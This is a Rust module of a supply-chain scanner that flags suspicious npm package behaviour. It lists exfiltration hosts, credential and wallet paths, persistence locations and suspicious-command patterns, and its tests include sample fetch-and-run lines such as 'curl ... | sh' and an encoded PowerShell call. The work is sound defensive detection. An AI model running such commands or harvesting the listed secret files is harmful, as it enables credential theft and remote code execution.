//! What makes a value interesting: URL and host classes, credential-like names, sensitive and
//! persistence paths, suspicious commands, the modules of each behaviour. Tables, not code, so
//! `docs/behaviours.md` can list them.

/// Node built-ins and common clients that give network access.
pub(crate) const NETWORK_MODULES: &[&str] = &[
    "http",
    "https",
    "http2",
    "net",
    "tls",
    "dgram",
    "dns",
    "dns/promises",
    "undici",
    "axios",
    "node-fetch",
    "got",
    "request",
    "superagent",
    "needle",
    "ky",
    "cross-fetch",
    "isomorphic-fetch",
    "ws",
    "socket.io-client",
    "phin",
    "bent",
];

/// Modules that start processes.
pub(crate) const SPAWN_MODULES: &[&str] = &["child_process", "execa", "cross-spawn", "shelljs"];

/// child_process functions; the ones that always go through a shell are marked.
pub(crate) const CHILD_PROCESS_FNS: &[(&str, bool)] = &[
    ("exec", true),
    ("execSync", true),
    ("spawn", false),
    ("spawnSync", false),
    ("execFile", false),
    ("execFileSync", false),
    ("fork", false),
];

/// Global (or `Bun.` / `Deno.`) APIs that reach the network, by canonical path.
pub(crate) const NETWORK_GLOBALS: &[&str] = &[
    "fetch",
    "WebSocket",
    "XMLHttpRequest",
    "EventSource",
    "navigator.sendBeacon",
    "Bun.connect",
    "Bun.serve",
    "Bun.listen",
    "Bun.udpSocket",
    "Deno.connect",
    "Deno.listen",
];

/// `os` functions that reveal user or machine facts.
pub(crate) const SYSTEM_INFO_FNS: &[&str] = &["userInfo", "hostname", "networkInterfaces", "cpus"];

/// Commands that reveal user or machine facts.
const SYSTEM_INFO_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "hostnamectl",
];

/// `fs` functions that write, delete or change modes (sync, callback and promise forms share
/// the name without `Sync`).
pub(crate) const FS_WRITE_FNS: &[&str] = &[
    "writeFile",
    "appendFile",
    "createWriteStream",
    "rm",
    "rmdir",
    "unlink",
    "chmod",
    "chown",
    "rename",
    "copyFile",
    "cp",
    "symlink",
    "link",
    "truncate",
    "open",
];

/// `fs` functions that read a file's contents (a sensitive path read is an exfiltration source).
pub(crate) const FS_READ_FNS: &[&str] = &["readFile", "readFileSync", "createReadStream"];

/// Substrings (upper case) that make an environment variable name credential-like.
const CREDENTIAL_MARKERS: &[&str] = &[
    "TOKEN",
    "KEY",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "AUTH",
    "CREDENTIAL",
    "SESSION",
    "COOKIE",
    "PRIVATE",
];

/// Whether an environment variable name looks like it holds a credential.
pub(crate) fn credential_env(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    // `_PAT` (personal access token) as a word, not inside `NODE_PATH`.
    CREDENTIAL_MARKERS.iter().any(|m| upper.contains(m))
        || upper.ends_with("_PAT")
        || upper.contains("_PAT_")
}

/// Hosts (suffixes) used for webhooks, pastes, tunnels, file sharing, URL shortening, messenger
/// APIs and out-of-band callbacks: rarely a dependency's business, common in exfiltration.
const SUSPICIOUS_HOSTS: &[&str] = &[
    "webhook.site",
    "hooks.slack.com",
    "api.telegram.org",
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "ghostbin.com",
    "rentry.co",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "trycloudflare.com",
    "serveo.net",
    "localtunnel.me",
    "loca.lt",
    "pipedream.net",
    "requestbin.com",
    "requestbin.net",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "oast.fun",
    "canarytokens.com",
    "transfer.sh",
    "file.io",
    "anonfiles.com",
    "gofile.io",
    "bit.ly",
    "tinyurl.com",
    "is.gd",
    "cutt.ly",
    "rebrand.ly",
    "ipinfo.io",
    "ip-api.com",
    "ifconfig.me",
    "api.ipify.org",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
];

/// Top-level domains with a high abuse rate.
const UNUSUAL_TLDS: &[&str] = &[
    "tk", "ml", "ga", "cf", "gq", "xyz", "top", "zip", "mov", "click", "country", "kim", "work",
    "su", "onion",
];

/// Hosts of XML namespaces and schema identifiers: written as `http://` but never fetched.
const NAMESPACE_HOSTS: &[&str] = &[
    "www.w3.org",
    "w3.org",
    "schemas.xmlsoap.org",
    "schemas.microsoft.com",
    "schemas.openxmlformats.org",
    "purl.org",
    "ns.adobe.com",
    "json-schema.org",
    "xmlns.com",
    "www.apple.com",
];

/// One URL found in a string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct UrlFact {
    pub url: String,
    pub host: String,
    pub attributes: Vec<&'static str>,
}

fn is_url_byte(b: u8) -> bool {
    (0x21..0x7f).contains(&b)
        && !matches!(
            b,
            b'"' | b'\'' | b'<' | b'>' | b'`' | b'{' | b'}' | b'|' | b'\\' | b'^'
        )
}

/// The URLs in `s` (http, https, ws, wss, ftp), at most `max`.
pub(crate) fn urls_in(s: &str, max: usize) -> Vec<UrlFact> {
    let mut out = Vec::new();
    let b = s.as_bytes();
    let mut from = 0;
    while out.len() < max {
        let Some(i) = s[from..].find("://").map(|i| i + from) else {
            break;
        };
        from = i + 3;
        let start = b[..i]
            .iter()
            .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'+')
            .map_or(0, |p| p + 1);
        let scheme = s[start..i].to_ascii_lowercase();
        if !matches!(scheme.as_str(), "http" | "https" | "ws" | "wss" | "ftp") {
            continue;
        }
        let mut n = b[from..].iter().take_while(|c| is_url_byte(**c)).count();
        // A folded hole (`${…}`) ends the known part of the URL.
        if n > 0 && b[from + n - 1] == b'$' && b.get(from + n) == Some(&b'{') {
            n -= 1;
        }
        while n > 0 && matches!(b[from + n - 1], b'.' | b',' | b';' | b':' | b')' | b']') {
            n -= 1;
        }
        let url = &s[start..from + n];
        let authority = url[scheme.len() + 3..]
            .split(['/', '?', '#'])
            .next()
            .unwrap_or("");
        let host_port = authority.rsplit('@').next().unwrap_or("");
        let host = if let Some(v6) = host_port.strip_prefix('[') {
            v6.split(']').next().unwrap_or("")
        } else {
            host_port.split(':').next().unwrap_or("")
        }
        .to_ascii_lowercase();
        // `https://` followed by nothing usable (a prefix test, a template hole) is no URL.
        if host.is_empty() || !host.bytes().any(|c| c.is_ascii_alphanumeric()) {
            continue;
        }
        from += n;
        out.push(UrlFact {
            attributes: url_attributes(&scheme, &host, url),
            url: url.to_string(),
            host,
        });
    }
    out
}

fn is_local(host: &str) -> bool {
    host == "localhost"
        || host.ends_with(".localhost")
        || host == "::1"
        || host == "0.0.0.0"
        || ipv4(host).is_some_and(|ip| !is_public(ip))
}

fn url_attributes(scheme: &str, host: &str, url: &str) -> Vec<&'static str> {
    let mut a = Vec::new();
    if matches!(scheme, "http" | "ws" | "ftp")
        && !is_local(host)
        && !NAMESPACE_HOSTS.contains(&host)
    {
        a.push("insecure");
    }
    if suspicious_host(host, url) {
        a.push("suspicious");
    }
    a
}

/// Whether a host (or the URL it is in) is in a suspicious class.
pub(crate) fn suspicious_host(host: &str, url: &str) -> bool {
    if ipv4(host).is_some_and(is_public) {
        return true;
    }
    let lower = url.to_ascii_lowercase();
    if SUSPICIOUS_HOSTS.iter().any(|s| {
        if s.contains('/') {
            lower.contains(s)
        } else {
            host == *s || host.ends_with(&format!(".{s}"))
        }
    }) {
        return true;
    }
    host.rsplit('.')
        .next()
        .is_some_and(|tld| host.contains('.') && UNUSUAL_TLDS.contains(&tld))
}

/// An IPv4 literal (four decimal octets, no leading zeros).
pub(crate) fn ipv4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for o in &mut out {
        let p = parts.next()?;
        if p.is_empty() || p.len() > 3 || (p.len() > 1 && p.starts_with('0')) {
            return None;
        }
        *o = p.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

/// Publicly routable (not private, loopback, link-local, CGNAT, multicast, reserved, zero).
pub(crate) fn is_public(ip: [u8; 4]) -> bool {
    let private = matches!(
        ip,
        [0 | 10 | 127 | 255, ..] | [169, 254, ..] | [192, 168, ..] | [224..=239, ..]
    ) || (ip[0] == 172 && (16..32).contains(&ip[1]))
        || (ip[0] == 100 && (64..128).contains(&ip[1]));
    !private
}

/// Sensitive locations, as path component sequences (lower case) and a label.
const SENSITIVE: &[(&[&str], &str)] = &[
    (&[".ssh"], "~/.ssh"),
    (&["id_rsa"], "ssh key"),
    (&["id_ed25519"], "ssh key"),
    (&["id_ecdsa"], "ssh key"),
    (&["authorized_keys"], "ssh authorized_keys"),
    (&[".aws"], "~/.aws"),
    (&[".npmrc"], "~/.npmrc"),
    (&[".yarnrc"], "~/.yarnrc"),
    (&[".pypirc"], "~/.pypirc"),
    (&[".netrc"], "~/.netrc"),
    (&[".gitconfig"], "~/.gitconfig"),
    (&[".git-credentials"], "~/.git-credentials"),
    (&[".config", "gcloud"], "~/.config/gcloud"),
    (&[".azure"], "~/.azure"),
    (&[".kube", "config"], "~/.kube/config"),
    (&[".docker", "config.json"], "~/.docker/config.json"),
    (&["etc", "passwd"], "/etc/passwd"),
    (&["etc", "shadow"], "/etc/shadow"),
    (&[".bashrc"], "shell rc"),
    (&[".bash_profile"], "shell rc"),
    (&[".zshrc"], "shell rc"),
    (&[".zprofile"], "shell rc"),
    (&[".profile"], "shell rc"),
    (&[".bash_history"], "shell history"),
    (&[".zsh_history"], "shell history"),
    (&["login data"], "browser profile"),
    (&["chrome", "user data"], "browser profile"),
    (
        &["application support", "google", "chrome"],
        "browser profile",
    ),
    (&[".config", "google-chrome"], "browser profile"),
    (&[".config", "chromium"], "browser profile"),
    (&["bravesoftware"], "browser profile"),
    (&[".mozilla", "firefox"], "browser profile"),
    (&["cookies.sqlite"], "browser profile"),
    (&["wallet.dat"], "wallet"),
    (&[".electrum"], "wallet"),
    (&["exodus"], "wallet"),
    (&[".ethereum", "keystore"], "wallet"),
    (&["solana", "id.json"], "wallet"),
    (&["keychains"], "keychain"),
    (&["login.keychain-db"], "keychain"),
    (&[".gnupg"], "~/.gnupg"),
];

/// Persistence locations (component sequences).
const PERSISTENCE: &[&[&str]] = &[
    &["crontab"],
    &["cron.d"],
    &["spool", "cron"],
    &[".config", "autostart"],
    &["launchagents"],
    &["launchdaemons"],
    &["systemd", "system"],
    &["systemd", "user"],
    &["start menu", "programs", "startup"],
    &["authorized_keys"],
    &[".bashrc"],
    &[".bash_profile"],
    &[".zshrc"],
    &[".profile"],
    &["rc.local"],
];

fn components(s: &str) -> Option<Vec<String>> {
    // Prose is not a path: long strings and strings with several spaces are skipped.
    if s.len() > 400 || s.matches(' ').count() > 3 || s.contains('\n') {
        return None;
    }
    Some(
        s.to_ascii_lowercase()
            .replace('\\', "/")
            .split('/')
            .map(str::to_string)
            .collect(),
    )
}

fn has_seq(comps: &[String], seq: &[&str]) -> bool {
    comps
        .windows(seq.len())
        .any(|w| w.iter().zip(seq).all(|(a, b)| a == b))
}

/// The label of a sensitive location `s` names, if any.
pub(crate) fn sensitive_path(s: &str) -> Option<&'static str> {
    let comps = components(s)?;
    SENSITIVE
        .iter()
        .find(|(seq, _)| has_seq(&comps, seq))
        .map(|(_, label)| *label)
}

/// Whether `s` names a persistence location.
pub(crate) fn persistence_path(s: &str) -> bool {
    components(s).is_some_and(|c| PERSISTENCE.iter().any(|seq| has_seq(&c, seq)))
}

/// Whether a (possibly partial) path is outside the package directory: absolute, home-relative
/// or a Windows drive/profile path; temporary and null devices are not counted.
pub(crate) fn outside_package(p: &str) -> bool {
    let l = p.to_ascii_lowercase().replace('\\', "/");
    if l.starts_with("/tmp")
        || l.starts_with("/var/tmp")
        || l.starts_with("/dev/")
        || l.starts_with("/proc/")
        || l.starts_with("${tmpdir}")
    {
        return false;
    }
    l.starts_with('/')
        || l.starts_with('~')
        || l.starts_with("%appdata%")
        || l.starts_with("%userprofile%")
        || (l.len() > 2 && l.as_bytes()[1] == b':' && l.as_bytes()[2] == b'/')
        || persistence_path(p)
}

/// Attributes of a command line: `suspicious-command` for downloaders, shells with `-c`,
/// interpreters with inline code and living-off-the-land binaries.
pub(crate) fn command_suspicious(cmd: &str) -> bool {
    let l = cmd.to_ascii_lowercase();
    let words: Vec<&str> = l
        .split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|' || c == '(')
        .filter(|w| !w.is_empty())
        .collect();
    let base = |w: &str| -> String {
        w.rsplit(['/', '\\'])
            .next()
            .unwrap_or(w)
            .trim_end_matches(".exe")
            .to_string()
    };
    let names: Vec<String> = words.iter().map(|w| base(w)).collect();
    let has = |n: &str| names.iter().any(|w| w == n);
    let flag_after = |cmds: &[&str], flags: &[&str]| {
        names.windows(2).any(|w| {
            cmds.contains(&w[0].as_str()) && flags.iter().any(|f| w[1] == *f || w[1].starts_with(f))
        })
    };
    let downloader = (has("curl") || has("wget") || has("iwr") || has("invoke-webrequest"))
        && (l.contains("http") || l.contains("| sh") || l.contains("|sh") || l.contains("-o"));
    let shell_c = flag_after(&["sh", "bash", "zsh", "dash", "ksh"], &["-c"])
        || flag_after(&["cmd"], &["/c", "/k"])
        || flag_after(
            &["powershell", "pwsh"],
            &[
                "-enc",
                "-e",
                "-encodedcommand",
                "-command",
                "-c",
                "-w",
                "-nop",
            ],
        );
    let inline = flag_after(&["node", "bun", "deno"], &["-e", "--eval", "-p"])
        || flag_after(&["python", "python3", "python2"], &["-c"])
        || flag_after(&["perl", "ruby", "php"], &["-e", "-r"])
        || flag_after(&["osascript"], &["-e"]);
    let lolbin = [
        "certutil",
        "bitsadmin",
        "mshta",
        "rundll32",
        "regsvr32",
        "wmic",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "schtasks",
        "crontab",
        "launchctl",
    ]
    .iter()
    .any(|b| has(b));
    let piped =
        l.contains("| sh") || l.contains("|sh") || l.contains("| bash") || l.contains("|bash");
    let decode =
        l.contains("base64 -d") || l.contains("base64 --decode") || l.contains("/dev/tcp/");
    downloader || shell_c || inline || lolbin || piped || decode
}

/// Whether a command line reads user or machine facts.
pub(crate) fn command_system_info(cmd: &str) -> bool {
    cmd.split(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|')
        .any(|w| SYSTEM_INFO_COMMANDS.contains(&w.rsplit('/').next().unwrap_or(w)))
}

/// Whether a command line publishes packages.
pub(crate) fn command_publishes(cmd: &str) -> bool {
    let l = cmd.to_ascii_lowercase();
    [
        "npm publish",
        "yarn publish",
        "pnpm publish",
        "npm adduser",
        "npm token",
    ]
    .iter()
    .any(|p| l.contains(p))
}

/// Whether a shell is invoked: the file is a shell and an inline-command flag follows.
pub(crate) fn is_shell_invocation(file: &str, args: &[String]) -> bool {
    let f = file
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(file)
        .to_ascii_lowercase();
    let f = f.trim_end_matches(".exe");
    let shell = matches!(
        f,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "cmd" | "powershell" | "pwsh"
    );
    shell
        && args.first().is_some_and(|a| {
            let a = a.to_ascii_lowercase();
            matches!(
                a.as_str(),
                "-c" | "/c" | "/k" | "-command" | "-encodedcommand" | "-enc" | "-lc"
            )
        })
}

/// Invisible and bidirectional-control characters (Trojan Source, invisible identifiers).
pub(crate) fn invisible_class(c: char) -> Option<&'static str> {
    match c {
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' => Some("bidi"),
        '\u{200B}'..='\u{200D}'
        | '\u{2060}'..='\u{2064}'
        | '\u{3164}'
        | '\u{115F}'
        | '\u{1160}'
        | '\u{FFA0}' => Some("invisible-unicode"),
        _ => None,
    }
}

/// Registry-free dependency specs npm understands: URLs, git, local paths, aliases, GitHub
/// shorthand.
pub(crate) fn dependency_url(spec: &str) -> Option<&'static str> {
    let s = spec.trim();
    let l = s.to_ascii_lowercase();
    if l.starts_with("http://") {
        Some("insecure")
    } else if l.starts_with("https://") {
        Some("url")
    } else if l.starts_with("git://") {
        Some("insecure")
    } else if l.starts_with("git+")
        || l.starts_with("git@")
        || l.starts_with("github:")
        || l.starts_with("gitlab:")
        || l.starts_with("bitbucket:")
        || l.starts_with("gist:")
    {
        Some("git")
    } else if l.starts_with("file:")
        || l.starts_with("link:")
        || l.starts_with('.')
        || l.starts_with('/')
    {
        Some("file")
    } else if l.starts_with("npm:") {
        Some("alias")
    } else if !l.starts_with('@')
        && l.split('/').count() == 2
        && !l.contains(' ')
        && l.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
    {
        // `user/repo` (GitHub shorthand); ranges never contain '/'.
        Some("git")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_classes() {
        let u = urls_in("see https://webhook.site/abc and http://1.2.3.4:80/x.", 8);
        assert_eq!(u.len(), 2);
        assert_eq!(u[0].host, "webhook.site");
        assert_eq!(u[0].attributes, ["suspicious"]);
        assert_eq!(u[1].attributes, ["insecure", "suspicious"]);
        let u = urls_in(
            "http://localhost:3000/ http://www.w3.org/2000/svg https://",
            8,
        );
        assert_eq!(u.len(), 2);
        assert!(u.iter().all(|f| f.attributes.is_empty()), "{u:?}");
        assert!(urls_in("https://${…}/x", 4).is_empty());
        assert_eq!(
            urls_in("see https://x.example/a/${…})", 4)[0].url,
            "https://x.example/a/"
        );
        assert!(credential_env("GITHUB_PAT") && !credential_env("NODE_PATH"));
    }

    #[test]
    fn ips_and_paths() {
        assert!(ipv4("8.8.8.8").is_some_and(is_public));
        assert!(!ipv4("192.168.1.1").is_some_and(is_public));
        assert!(ipv4("1.2.3").is_none() && ipv4("01.2.3.4").is_none());
        assert_eq!(sensitive_path("~/.ssh/id_rsa"), Some("~/.ssh"));
        assert_eq!(sensitive_path(".aws"), Some("~/.aws"));
        assert_eq!(sensitive_path("src/ssh.js"), None);
        assert!(persistence_path("/etc/cron.d/x"));
        assert!(outside_package("~/.bashrc") && !outside_package("dist/out.js"));
        assert!(!outside_package("/tmp/x"));
    }

    #[test]
    fn commands() {
        assert!(command_suspicious("curl -s https://x.example/a.sh | sh"));
        assert!(command_suspicious("bash -c 'id'"));
        assert!(command_suspicious("/usr/bin/python3 -c 'import os'"));
        assert!(command_suspicious("powershell -enc ZQBjAGgAbwA="));
        assert!(!command_suspicious("git status --porcelain"));
        assert!(!command_suspicious("npm install"));
        assert!(command_system_info("whoami"));
        assert!(command_publishes("npm publish --access public"));
    }

    #[test]
    fn dependency_specs() {
        assert_eq!(dependency_url("^1.2.3"), None);
        assert_eq!(dependency_url("latest"), None);
        assert_eq!(dependency_url("1.x || >=2.5.0"), None);
        assert_eq!(dependency_url("http://x.example/p.tgz"), Some("insecure"));
        assert_eq!(
            dependency_url("git+https://github.com/a/b.git"),
            Some("git")
        );
        assert_eq!(dependency_url("user/repo"), Some("git"));
        assert_eq!(dependency_url("file:../x"), Some("file"));
        assert_eq!(dependency_url("npm:lodash@4"), Some("alias"));
    }
}
